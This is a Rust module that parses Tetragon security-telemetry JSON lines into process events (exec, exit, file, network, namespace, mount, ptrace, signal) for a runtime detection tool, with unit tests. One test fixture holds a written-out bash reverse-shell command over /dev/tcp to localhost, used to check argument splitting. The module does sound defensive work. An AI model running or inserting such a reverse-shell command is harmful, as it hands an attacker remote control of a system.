//! Tetragon's JSON export in: one line per event, protojson with the proto field names
//! (`process_exec`, `exec_id`, ...), as `--export-filename` writes it and
//! `tetra getevents -o json` prints it.
//!
//! `process_exec` becomes [`Action::Exec`], `process_exit` [`Action::Exit`], and the
//! `process_tracepoint`s of the TracingPolicy in Riposte's chart
//! (`templates/tetragon-tracingpolicy.yaml`) the file, network, namespace, mount, ptrace
//! and signal actions. A tracepoint's arguments carry no names, only their order in the
//! policy, so each mapped tracepoint expects the arguments in the order that policy lists
//! them (see [`parse_line`]).
//!
//! The `message` and `tags` of a tracepoint event are whatever the policy's author wrote:
//! they are kept, to show, but the action is read from the tracepoint and its arguments.

use std::borrow::Cow;
use std::collections::BTreeMap;
use std::fmt;

use serde::Deserialize;
use serde::de::{Deserializer, IgnoredAny, MapAccess, Visitor};

use crate::Error;
use crate::audit::Timestamp;
use crate::runtime::event::{Action, Container, Endpoint, Process, ProcessEvent, Sensor};

/// One mapped Tetragon event, with what the normalized event has no place for.
#[derive(Clone, Debug, PartialEq)]
pub struct TetragonEvent {
    pub event: ProcessEvent,
    /// The TracingPolicy that produced a tracepoint event.
    pub policy_name: Option<String>,
    /// The policy author's words for a tracepoint event: to show, not to classify.
    pub message: Option<String>,
    pub tags: Vec<String>,
    /// The pod's workload and its kind (`Deployment`, ...), from Tetragon's pod cache.
    pub workload: Option<String>,
    pub workload_kind: Option<String>,
    pub pod_labels: BTreeMap<String, String>,
    /// The signal that ended the process (`SIGKILL`, ...), for an exit by signal; the
    /// event's `Exit` has no code then.
    pub exit_signal: Option<String>,
}

/// What one export line is.
#[derive(Clone, Debug, PartialEq)]
pub enum Outcome {
    Event(Box<TetragonEvent>),
    /// A process event Riposte does not map: a tracepoint it has no action for (or whose
    /// arguments describe none, such as a dup2 onto descriptor 255), or a kprobe, uprobe
    /// or LSM hook. `kind` is the event's key (`process_tracepoint`, ...), `hook` the
    /// tracepoint (`subsys/event`), function or symbol.
    Unmapped {
        kind: String,
        hook: String,
    },
    /// Not about one process: `process_loader`, `process_throttle`, `rate_limit_info`, ...
    NotProcessEvent {
        kind: String,
    },
}

/// Parses one export line.
///
/// The tracepoints mapped, and the arguments each expects, in the policy's order:
///
/// | tracepoint | arguments | action |
/// |---|---|---|
/// | `syscalls/sys_enter_openat`, `sys_enter_open` | filename (string), flags (int) | `FileOpen` (write: `O_WRONLY`/`O_RDWR`; truncate: `O_TRUNC`) |
/// | `syscalls/sys_enter_creat` | filename | `FileOpen`, write and truncate |
/// | `syscalls/sys_enter_unlinkat`, `sys_enter_unlink`, `sys_enter_rmdir` | path (string) | `FileDelete` |
/// | `syscalls/sys_enter_renameat2`, `sys_enter_renameat`, `sys_enter_rename` | old, new (strings) | `FileRename` |
/// | `syscalls/sys_enter_utimensat` | filename (string; empty for a descriptor) | `FileTimestamp` |
/// | `syscalls/sys_enter_connect` | a `sockaddr` or `sockaddr_un` argument | `Connect` |
/// | `sock/inet_sock_set_state` | sock, oldstate, newstate (ints) | `Connect` when newstate is `TCP_SYN_SENT` |
/// | `syscalls/sys_enter_dup2`, `sys_enter_dup3` | oldfd, newfd (ints) | `SocketRedirect` when newfd is 0, 1 or 2 |
/// | `syscalls/sys_enter_unshare` | flags | `Namespace` |
/// | `syscalls/sys_enter_setns` | fd, nstype | `Namespace` (flags: nstype) |
/// | `syscalls/sys_enter_mount` | dev_name, dir_name, type (strings) | `Mount` |
/// | `syscalls/sys_enter_ptrace` | request, pid | `Ptrace` |
/// | `syscalls/sys_enter_kill` | pid, sig | `Signal` for a pid above 0 and a signal above 0 |
///
/// A dup2 tracepoint cannot tell what the old descriptor is: `SocketRedirect`'s `remote`
/// is `None`, and a rule pairs it with the process's connects.
pub fn parse_line(json: &[u8]) -> Result<Outcome, Error> {
    let line: Line = match serde_json::from_slice(json) {
        Ok(line) => line,
        // Parsed again only to name the field: tracking the path costs on every line.
        Err(error) => return Err(named(json, error)),
    };
    let Some(body) = line.body else {
        return Err(Error::InvalidTetragonField { field: "(event)".into(), problem: "no event in the line".into() });
    };
    let time = || -> Result<Timestamp, Error> {
        let text = line
            .time
            .as_deref()
            .ok_or_else(|| Error::InvalidTetragonField { field: "time".into(), problem: "missing".into() })?;
        text.parse().map_err(|_| timestamp_error("time", text))
    };
    let (kind, mut event, action) = match body {
        Body::Exec(exec) => ("process_exec", exec, Ok(Action::Exec)),
        Body::Exit(exit) => {
            let signal = exit.signal.filter(|s| !s.is_empty());
            let action =
                Ok(Action::Exit { code: signal.is_none().then_some(i32::try_from(exit.status).unwrap_or(i32::MAX)) });
            let event = Wired {
                process: exit.process,
                parent: exit.parent,
                ancestors: exit.ancestors,
                exit_signal: signal,
                ..Wired::default()
            };
            ("process_exit", event, action)
        }
        Body::Tracepoint(tracepoint) => {
            let hook = format!("{}/{}", tracepoint.subsys, tracepoint.event);
            let action = tracepoint_action(&tracepoint).ok_or(hook);
            let event = Wired {
                process: tracepoint.process,
                parent: tracepoint.parent,
                ancestors: tracepoint.ancestors,
                policy_name: tracepoint.policy_name,
                message: tracepoint.message,
                tags: tracepoint.tags,
                exit_signal: None,
            };
            ("process_tracepoint", event, action)
        }
        Body::Hook { kind, hook } => {
            return Ok(Outcome::Unmapped { kind, hook });
        }
        Body::Other(kind) => return Ok(Outcome::NotProcessEvent { kind }),
    };
    let action = match action {
        Ok(action) => action,
        Err(hook) => return Ok(Outcome::Unmapped { kind: kind.to_owned(), hook }),
    };
    let Some(mut process) = event.process.take() else {
        return Err(Error::InvalidTetragonField { field: format!("{kind}.process"), problem: "missing".into() });
    };
    let container = container(&process);
    let pod = process.pod.take();
    let parent = event.parent.take().map(|p| process_of(p, kind, "parent")).transpose()?;
    let process = process_of(process, kind, "process")?;
    // Tetragon lists them walking up from the parent (`--enable-ancestors`): nearest first.
    let ancestors = event.ancestors.iter().map(|a| base_name(a.binary.as_deref().unwrap_or_default())).collect();
    let (workload, workload_kind, pod_labels) =
        pod.map(|pod| (pod.workload, pod.workload_kind, pod.pod_labels)).unwrap_or_default();
    Ok(Outcome::Event(Box::new(TetragonEvent {
        event: ProcessEvent {
            time: time()?,
            sensor: Sensor::Tetragon,
            node: line.node_name,
            container,
            process,
            parent,
            ancestors,
            action,
        },
        policy_name: event.policy_name,
        message: event.message,
        tags: event.tags,
        workload: workload.filter(|w| !w.is_empty()),
        workload_kind: workload_kind.filter(|w| !w.is_empty()),
        pod_labels,
        exit_signal: event.exit_signal,
    })))
}

/// Parses JSON lines, one result per non-blank line: a bad line is an
/// [`Error::SensorLine`] with its (1-based) number, and the lines after it are still read.
pub fn parse_lines(input: &[u8]) -> impl Iterator<Item = Result<Outcome, Error>> + '_ {
    super::follow::lines(input)
        .map(|(line, text)| parse_line(text).map_err(|source| Error::SensorLine { line, source: Box::new(source) }))
}

fn named(json: &[u8], error: serde_json::Error) -> Error {
    if error.is_syntax() || error.is_eof() {
        return Error::MalformedTetragonEvent(error);
    }
    let mut deserializer = serde_json::Deserializer::from_slice(json);
    match serde_path_to_error::deserialize::<_, Line>(&mut deserializer) {
        Err(error) if error.path().iter().next().is_some() => {
            Error::InvalidTetragonField { field: error.path().to_string(), problem: error.inner().to_string() }
        }
        _ => Error::MalformedTetragonEvent(error),
    }
}

fn timestamp_error(field: &str, text: &str) -> Error {
    Error::InvalidTetragonField { field: field.to_owned(), problem: format!("expected an RFC 3339 time, saw {text:?}") }
}

/// Splits `arguments` back into the arguments. Tetragon (pkg/process/args.go,
/// `ArgsDecoder`) joins them with single spaces and writes an argument holding a space as
/// ` "argument"` (with its separating space, even first), escaping nothing. So a quoted
/// argument is one that starts with `"` and ends at the first `"` followed by a space or
/// the end, holding a space; anything else runs to the next space (an empty argument is
/// two spaces in a row). An argument holding both `" ` and a space cannot be told from
/// two, and is split at that quote.
pub fn split_arguments(arguments: &str) -> Vec<String> {
    let mut args = Vec::new();
    if arguments.is_empty() {
        return args;
    }
    let mut rest = arguments;
    if !rest.starts_with(' ') {
        let end = rest.find(' ').unwrap_or(rest.len());
        args.push(rest[..end].to_owned());
        rest = &rest[end..];
    }
    while let Some(after) = rest.strip_prefix(' ') {
        if let Some(end) = quoted_end(after) {
            args.push(after[1..end].to_owned());
            rest = &after[end + 1..];
        } else {
            let end = after.find(' ').unwrap_or(after.len());
            args.push(after[..end].to_owned());
            rest = &after[end..];
        }
    }
    args
}

/// The index of the closing quote of a quoted argument at the start of `text`.
fn quoted_end(text: &str) -> Option<usize> {
    let inner = text.strip_prefix('"')?;
    inner
        .match_indices('"')
        .map(|(i, _)| i + 1)
        .find(|&end| matches!(text.as_bytes().get(end + 1), None | Some(b' ')) && text[1..end].contains(' '))
}

fn base_name(path: &str) -> String {
    path.rsplit('/').next().unwrap_or(path).to_owned()
}

/// A process block; `kind` and `role` name it in errors (`process_exec.parent`).
fn process_of(wire: WireProcess, kind: &str, role: &str) -> Result<Process, Error> {
    let binary = wire.binary.unwrap_or_default();
    let start_time = match wire.start_time {
        Some(text) => Some(text.parse().map_err(|_| timestamp_error(&format!("{kind}.{role}.start_time"), &text))?),
        None => None,
    };
    Ok(Process {
        pid: wire.pid.unwrap_or(0),
        exec_id: wire.exec_id.filter(|id| !id.is_empty()),
        parent_exec_id: wire.parent_exec_id.filter(|id| !id.is_empty()),
        name: base_name(&binary),
        args: wire.arguments.as_deref().map(split_arguments).unwrap_or_default(),
        binary,
        cwd: wire.cwd.filter(|cwd| !cwd.is_empty()),
        uid: wire.uid,
        user: wire.user.and_then(|u| u.name).filter(|name| !name.is_empty()),
        start_time,
        exec_session: None,
    })
}

/// The runtime's id without its scheme: Kubernetes writes `containerd://<id>`.
pub fn container_id(id: &str) -> &str {
    id.split_once("://").map_or(id, |(_, id)| id)
}

/// The pod Tetragon matched the process to, or else the container id prefix it read from
/// the cgroup (`docker`, for a process outside any pod Tetragon knows).
fn container(process: &WireProcess) -> Option<Container> {
    let from_cgroup = process.docker.as_deref().filter(|id| !id.is_empty());
    let Some(pod) = &process.pod else {
        return from_cgroup.map(|id| Container { id: id.to_owned(), ..Container::default() });
    };
    let inner = pod.container.as_ref();
    let id = inner.and_then(|c| c.id.as_deref()).map(container_id).or(from_cgroup).unwrap_or_default();
    let non_empty = |s: &Option<String>| s.clone().filter(|s| !s.is_empty());
    Some(Container {
        id: id.to_owned(),
        name: inner.and_then(|c| non_empty(&c.name)),
        image: inner.and_then(|c| c.image.as_ref()).and_then(|i| non_empty(&i.name)),
        pod: non_empty(&pod.name),
        namespace: non_empty(&pod.namespace),
        pod_uid: non_empty(&pod.uid),
        service_account: None,
        privileged: inner.and_then(|c| c.security_context.as_ref()).map(|s| s.privileged),
    })
}

const O_ACCMODE: i64 = 0o3;
const O_WRONLY: i64 = 0o1;
const O_RDWR: i64 = 0o2;
const O_TRUNC: i64 = 0o1000;
const TCP_SYN_SENT: i64 = 2;

fn tracepoint_action(tp: &WireTracepoint) -> Option<Action> {
    let strings: Vec<&str> = tp.args.iter().filter_map(WireArg::text).collect();
    let ints: Vec<i64> = tp.args.iter().filter_map(WireArg::number).collect();
    let string = |i: usize| strings.get(i).map(|s| (*s).to_owned());
    Some(match (tp.subsys.as_str(), tp.event.as_str()) {
        ("syscalls", "sys_enter_openat" | "sys_enter_open") => {
            let flags = ints.first().copied().unwrap_or(0);
            let mode = flags & O_ACCMODE;
            Action::FileOpen {
                path: string(0)?,
                write: mode == O_WRONLY || mode == O_RDWR,
                truncate: flags & O_TRUNC != 0,
            }
        }
        ("syscalls", "sys_enter_creat") => Action::FileOpen { path: string(0)?, write: true, truncate: true },
        ("syscalls", "sys_enter_unlinkat" | "sys_enter_unlink" | "sys_enter_rmdir") => {
            Action::FileDelete { path: string(0)? }
        }
        ("syscalls", "sys_enter_renameat2" | "sys_enter_renameat" | "sys_enter_rename") => {
            Action::FileRename { from: string(0)?, to: string(1)? }
        }
        ("syscalls", "sys_enter_utimensat") => Action::FileTimestamp { path: string(0).unwrap_or_default() },
        ("syscalls", "sys_enter_connect") => Action::Connect(tp.args.iter().find_map(WireArg::sockaddr)?),
        ("sock", "inet_sock_set_state") => {
            let sock = tp.args.iter().find_map(|a| a.sock_arg.as_ref())?;
            let new_state = match ints.as_slice() {
                [_, new, ..] | [new] => *new == TCP_SYN_SENT,
                [] => sock.state.as_deref() == Some("TCP_SYN_SENT"),
            };
            if !new_state {
                return None;
            }
            let protocol = match sock.protocol.as_deref() {
                Some("IPPROTO_UDP") => "udp",
                _ => "tcp",
            };
            Action::Connect(Endpoint {
                address: sock.daddr.clone()?,
                port: u16::try_from(sock.dport).ok()?,
                protocol: protocol.into(),
            })
        }
        ("syscalls", "sys_enter_dup2" | "sys_enter_dup3") => match ints.get(1) {
            Some(&fd @ 0..=2) => Action::SocketRedirect { fd: fd as u32, remote: None },
            _ => return None,
        },
        ("syscalls", "sys_enter_unshare") => {
            Action::Namespace { syscall: "unshare".into(), flags: u64::try_from(*ints.first()?).ok()? }
        }
        ("syscalls", "sys_enter_setns") => {
            Action::Namespace { syscall: "setns".into(), flags: u64::try_from(*ints.last()?).ok()? }
        }
        ("syscalls", "sys_enter_mount") => {
            Action::Mount { source: string(0)?, target: string(1)?, fs_type: string(2).unwrap_or_default() }
        }
        ("syscalls", "sys_enter_ptrace") => Action::Ptrace {
            request: u64::try_from(*ints.first()?).ok()?,
            target_pid: u32::try_from(*ints.get(1)?).ok()?,
        },
        ("syscalls", "sys_enter_kill") => {
            let (pid, signal) = (*ints.first()?, *ints.get(1)?);
            if pid <= 0 || signal <= 0 {
                return None;
            }
            Action::Signal {
                target_pid: u32::try_from(pid).ok()?,
                signal: u32::try_from(signal).ok()?,
                target_name: None,
            }
        }
        _ => return None,
    })
}

// ---- the wire format ----

/// An export line: `node_name`, `time`, and one event under its kind's key.
#[derive(Default)]
struct Line {
    node_name: Option<String>,
    time: Option<String>,
    body: Option<Body>,
}

enum Body {
    Exec(Wired),
    Exit(WireExit),
    Tracepoint(WireTracepoint),
    Hook { kind: String, hook: String },
    Other(String),
}

/// The keys of an export line beside its event.
const LINE_FIELDS: [&str; 5] = ["node_name", "time", "aggregation_info", "cluster_name", "node_labels"];

impl<'de> Deserialize<'de> for Line {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Line, D::Error> {
        struct LineVisitor;
        impl<'de> Visitor<'de> for LineVisitor {
            type Value = Line;
            fn expecting(&self, f: &mut fmt::Formatter) -> fmt::Result {
                f.write_str("a Tetragon export event object")
            }
            fn visit_map<A: MapAccess<'de>>(self, mut map: A) -> Result<Line, A::Error> {
                let mut line = Line::default();
                while let Some(key) = map.next_key::<Cow<'de, str>>()? {
                    match &*key {
                        "node_name" => line.node_name = map.next_value()?,
                        "time" => line.time = map.next_value()?,
                        "process_exec" => line.body = Some(Body::Exec(map.next_value()?)),
                        "process_exit" => line.body = Some(Body::Exit(map.next_value()?)),
                        "process_tracepoint" => line.body = Some(Body::Tracepoint(map.next_value()?)),
                        kind @ ("process_kprobe" | "process_uprobe" | "process_lsm" | "process_usdt") => {
                            let hook: WireHook = map.next_value()?;
                            let name = hook.function_name.or(hook.symbol).unwrap_or_default();
                            line.body = Some(Body::Hook { kind: kind.to_owned(), hook: name });
                        }
                        other if !LINE_FIELDS.contains(&other) => {
                            map.next_value::<IgnoredAny>()?;
                            line.body.get_or_insert_with(|| Body::Other(other.to_owned()));
                        }
                        _ => {
                            map.next_value::<IgnoredAny>()?;
                        }
                    }
                }
                Ok(line)
            }
        }
        deserializer.deserialize_map(LineVisitor)
    }
}

/// The process blocks every process event has (`process_exec` is only them), and what
/// the other kinds add that is kept.
#[derive(Deserialize, Default)]
struct Wired {
    #[serde(default)]
    process: Option<WireProcess>,
    #[serde(default)]
    parent: Option<WireProcess>,
    #[serde(default)]
    ancestors: Vec<WireProcess>,
    #[serde(skip)]
    policy_name: Option<String>,
    #[serde(skip)]
    message: Option<String>,
    #[serde(skip)]
    tags: Vec<String>,
    #[serde(skip)]
    exit_signal: Option<String>,
}

#[derive(Deserialize)]
struct WireExit {
    #[serde(default)]
    process: Option<WireProcess>,
    #[serde(default)]
    parent: Option<WireProcess>,
    #[serde(default)]
    ancestors: Vec<WireProcess>,
    #[serde(default)]
    signal: Option<String>,
    /// Omitted when 0, as protojson omits zero values.
    #[serde(default)]
    status: u32,
}

#[derive(Deserialize)]
struct WireTracepoint {
    #[serde(default)]
    process: Option<WireProcess>,
    #[serde(default)]
    parent: Option<WireProcess>,
    #[serde(default)]
    ancestors: Vec<WireProcess>,
    #[serde(default)]
    subsys: String,
    #[serde(default)]
    event: String,
    #[serde(default)]
    args: Vec<WireArg>,
    #[serde(default)]
    policy_name: Option<String>,
    #[serde(default)]
    message: Option<String>,
    #[serde(default)]
    tags: Vec<String>,
}

/// A kprobe, uprobe, USDT or LSM event: only which hook it was is read.
#[derive(Deserialize)]
struct WireHook {
    #[serde(default)]
    function_name: Option<String>,
    #[serde(default)]
    symbol: Option<String>,
}

#[derive(Deserialize)]
struct WireProcess {
    #[serde(default)]
    exec_id: Option<String>,
    #[serde(default)]
    pid: Option<u32>,
    #[serde(default)]
    uid: Option<u32>,
    #[serde(default)]
    cwd: Option<String>,
    #[serde(default)]
    binary: Option<String>,
    #[serde(default)]
    arguments: Option<String>,
    #[serde(default)]
    start_time: Option<String>,
    #[serde(default)]
    pod: Option<WirePod>,
    #[serde(default)]
    docker: Option<String>,
    #[serde(default)]
    parent_exec_id: Option<String>,
    #[serde(default)]
    user: Option<WireUser>,
}

#[derive(Deserialize)]
struct WireUser {
    #[serde(default)]
    name: Option<String>,
}

#[derive(Deserialize)]
struct WirePod {
    #[serde(default)]
    namespace: Option<String>,
    #[serde(default)]
    name: Option<String>,
    #[serde(default)]
    uid: Option<String>,
    #[serde(default)]
    container: Option<WireContainer>,
    #[serde(default)]
    pod_labels: BTreeMap<String, String>,
    #[serde(default)]
    workload: Option<String>,
    #[serde(default)]
    workload_kind: Option<String>,
}

#[derive(Deserialize)]
struct WireContainer {
    #[serde(default)]
    id: Option<String>,
    #[serde(default)]
    name: Option<String>,
    #[serde(default)]
    image: Option<WireImage>,
    #[serde(default)]
    security_context: Option<WireSecurityContext>,
}

#[derive(Deserialize)]
struct WireImage {
    #[serde(default)]
    name: Option<String>,
}

#[derive(Deserialize)]
struct WireSecurityContext {
    #[serde(default)]
    privileged: bool,
}

/// One tracepoint argument: a oneof, one key set.
#[derive(Deserialize)]
struct WireArg {
    #[serde(default)]
    string_arg: Option<String>,
    #[serde(default)]
    int_arg: Option<i64>,
    #[serde(default)]
    uint_arg: Option<u64>,
    /// 64-bit integers are strings in protojson.
    #[serde(default)]
    long_arg: Option<Number>,
    #[serde(default)]
    size_arg: Option<Number>,
    #[serde(default)]
    sock_arg: Option<WireSock>,
    #[serde(default)]
    sockaddr_arg: Option<WireSockaddr>,
    #[serde(default)]
    sockaddrun_arg: Option<WireSockaddrUn>,
}

impl WireArg {
    fn text(&self) -> Option<&str> {
        self.string_arg.as_deref()
    }

    fn number(&self) -> Option<i64> {
        self.int_arg
            .or_else(|| self.uint_arg.and_then(|n| i64::try_from(n).ok()))
            .or_else(|| self.long_arg.as_ref().and_then(Number::value))
            .or_else(|| self.size_arg.as_ref().and_then(Number::value))
    }

    fn sockaddr(&self) -> Option<Endpoint> {
        if let Some(unix) = &self.sockaddrun_arg {
            return Some(Endpoint { address: unix.path.clone()?, port: 0, protocol: "unix".into() });
        }
        let addr = self.sockaddr_arg.as_ref()?;
        // A sockaddr holds no socket type: TCP and UDP cannot be told apart here.
        Some(Endpoint { address: addr.addr.clone()?, port: u16::try_from(addr.port).ok()?, protocol: "ip".into() })
    }
}

#[derive(Deserialize)]
#[serde(untagged)]
enum Number {
    Text(String),
    Value(i128),
}

impl Number {
    fn value(&self) -> Option<i64> {
        match self {
            Number::Text(text) => text.parse().ok(),
            Number::Value(n) => i64::try_from(*n).ok(),
        }
    }
}

#[derive(Deserialize)]
struct WireSock {
    #[serde(default)]
    protocol: Option<String>,
    #[serde(default)]
    daddr: Option<String>,
    #[serde(default)]
    dport: u32,
    #[serde(default)]
    state: Option<String>,
}

#[derive(Deserialize)]
struct WireSockaddr {
    #[serde(default)]
    addr: Option<String>,
    #[serde(default)]
    port: u32,
}

#[derive(Deserialize)]
struct WireSockaddrUn {
    #[serde(default)]
    path: Option<String>,
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn arguments_split_as_tetragon_joined_them() {
        assert_eq!(split_arguments(""), Vec::<String>::new());
        assert_eq!(split_arguments("-l 127.0.0.1 14444"), ["-l", "127.0.0.1", "14444"]);
        assert_eq!(
            split_arguments(r#"5 bash -c "bash --norc --noprofile -i >& /dev/tcp/127.0.0.1/14445 0>&1""#),
            ["5", "bash", "-c", "bash --norc --noprofile -i >& /dev/tcp/127.0.0.1/14445 0>&1"]
        );
        // A quoted first argument keeps its separating space.
        assert_eq!(split_arguments(r#" "a b" c"#), ["a b", "c"]);
        assert_eq!(split_arguments(r#"/dev/fd/3 " /opt/workload""#), ["/dev/fd/3", " /opt/workload"]);
        // Two quoted arguments in a row, and an empty one (two spaces).
        assert_eq!(split_arguments(r#"-c "x y" "z w""#), ["-c", "x y", "z w"]);
        assert_eq!(split_arguments("a  b"), ["a", "", "b"]);
        // Quotes are not escaped: an argument without a space is written as it is.
        assert_eq!(split_arguments(r#"--name="x" -q"#), [r#"--name="x""#, "-q"]);
        assert_eq!(split_arguments(r#""x" y"#), [r#""x""#, "y"]);
        assert_eq!(split_arguments(r#"-c "echo \"hi there\"""#), ["-c", r#"echo \"hi there\""#]);
    }

    #[test]
    fn container_ids_lose_their_scheme() {
        assert_eq!(container_id("containerd://03f5519566a284ea"), "03f5519566a284ea");
        assert_eq!(container_id("cri-o://abc"), "abc");
        assert_eq!(container_id("03f5519566a2"), "03f5519566a2");
    }

    fn tracepoint(subsys: &str, event: &str, args: &str) -> Outcome {
        let line = format!(
            r#"{{"process_tracepoint":{{"process":{{"pid":7,"binary":"/bin/sh"}},"subsys":"{subsys}","event":"{event}","args":{args}}},"node_name":"n","time":"2026-12-01T08:37:49.139673547Z"}}"#
        );
        parse_line(line.as_bytes()).unwrap()
    }

    fn action(outcome: Outcome) -> Action {
        match outcome {
            Outcome::Event(event) => event.event.action,
            other => panic!("not mapped: {other:?}"),
        }
    }

    #[test]
    fn open_flags_tell_writes_and_truncations() {
        let open = |flags: i64| {
            action(tracepoint(
                "syscalls",
                "sys_enter_openat",
                &format!(r#"[{{"string_arg":"/f"}},{{"int_arg":{flags}}}]"#),
            ))
        };
        assert_eq!(open(0), Action::FileOpen { path: "/f".into(), write: false, truncate: false });
        assert_eq!(open(0o1101), Action::FileOpen { path: "/f".into(), write: true, truncate: true });
        assert_eq!(open(0o2), Action::FileOpen { path: "/f".into(), write: true, truncate: false });
        assert_eq!(open(0o3), Action::FileOpen { path: "/f".into(), write: false, truncate: false });
    }

    #[test]
    fn syscall_tracepoints_map_onto_actions() {
        assert_eq!(
            action(tracepoint("syscalls", "sys_enter_renameat2", r#"[{"string_arg":"/a"},{"string_arg":"/b"}]"#)),
            Action::FileRename { from: "/a".into(), to: "/b".into() }
        );
        assert_eq!(
            action(tracepoint("syscalls", "sys_enter_unshare", r#"[{"size_arg":"268435456"}]"#)),
            Action::Namespace { syscall: "unshare".into(), flags: 0x1000_0000 }
        );
        assert_eq!(
            action(tracepoint("syscalls", "sys_enter_setns", r#"[{"int_arg":3},{"int_arg":1073741824}]"#)),
            Action::Namespace { syscall: "setns".into(), flags: 0x4000_0000 }
        );
        assert_eq!(
            action(tracepoint(
                "syscalls",
                "sys_enter_mount",
                r#"[{"string_arg":"/dev/sda1"},{"string_arg":"/mnt"},{"string_arg":"ext4"}]"#
            )),
            Action::Mount { source: "/dev/sda1".into(), target: "/mnt".into(), fs_type: "ext4".into() }
        );
        assert_eq!(
            action(tracepoint("syscalls", "sys_enter_ptrace", r#"[{"long_arg":"16"},{"long_arg":"4242"}]"#)),
            Action::Ptrace { request: 16, target_pid: 4242 }
        );
        assert_eq!(
            action(tracepoint("syscalls", "sys_enter_kill", r#"[{"int_arg":4242},{"int_arg":9}]"#)),
            Action::Signal { target_pid: 4242, signal: 9, target_name: None }
        );
        assert_eq!(
            action(tracepoint("syscalls", "sys_enter_utimensat", r#"[{"string_arg":"/tmp/f"}]"#)),
            Action::FileTimestamp { path: "/tmp/f".into() }
        );
        assert_eq!(
            action(tracepoint(
                "syscalls",
                "sys_enter_connect",
                r#"[{"int_arg":3},{"sockaddr_arg":{"family":"AF_INET","addr":"169.254.169.254","port":80}}]"#
            )),
            Action::Connect(Endpoint { address: "169.254.169.254".into(), port: 80, protocol: "ip".into() })
        );
    }

    #[test]
    fn what_is_not_mapped_is_told_apart_from_errors() {
        let unmapped = tracepoint("syscalls", "sys_enter_dup2", r#"[{"int_arg":3},{"int_arg":255}]"#);
        assert_eq!(
            unmapped,
            Outcome::Unmapped { kind: "process_tracepoint".into(), hook: "syscalls/sys_enter_dup2".into() }
        );
        let unknown = tracepoint("syscalls", "sys_enter_lseek", "[]");
        assert_eq!(
            unknown,
            Outcome::Unmapped { kind: "process_tracepoint".into(), hook: "syscalls/sys_enter_lseek".into() }
        );
        assert_eq!(
            tracepoint("syscalls", "sys_enter_kill", r#"[{"int_arg":-1},{"int_arg":9}]"#),
            Outcome::Unmapped { kind: "process_tracepoint".into(), hook: "syscalls/sys_enter_kill".into() }
        );
        let kprobe = br#"{"process_kprobe":{"process":{"pid":1,"binary":"/x"},"function_name":"security_file_open","args":[]},"node_name":"n","time":"2026-12-01T00:00:00Z"}"#;
        assert_eq!(
            parse_line(kprobe).unwrap(),
            Outcome::Unmapped { kind: "process_kprobe".into(), hook: "security_file_open".into() }
        );
        let loader = br#"{"process_loader":{"process":{"pid":1},"path":"/lib/x.so"},"node_name":"n","time":"2026-12-01T00:00:00Z"}"#;
        assert_eq!(parse_line(loader).unwrap(), Outcome::NotProcessEvent { kind: "process_loader".into() });
    }

    #[test]
    fn wrong_fields_are_named() {
        let error =
            parse_line(br#"{"process_exec":{"process":{"pid":"x"}},"time":"2026-12-01T00:00:00Z"}"#).unwrap_err();
        let text = error.to_string();
        assert!(
            text.starts_with("Tetragon event field process_exec.process.pid: invalid type: string \"x\""),
            "{text}"
        );
        let error = parse_line(br#"{"process_exec":{"process":{"pid":1}},"time":"yesterday"}"#).unwrap_err();
        assert_eq!(error.to_string(), r#"Tetragon event field time: expected an RFC 3339 time, saw "yesterday""#);
        let error = parse_line(br#"{"process_exec":{}, "time":"2026-12-01T00:00:00Z"}"#).unwrap_err();
        assert_eq!(error.to_string(), "Tetragon event field process_exec.process: missing");
        assert!(matches!(parse_line(b"{\"process_exec\":"), Err(Error::MalformedTetragonEvent(_))));
        assert!(matches!(parse_line(b"[1]"), Err(Error::MalformedTetragonEvent(_))));
    }
}
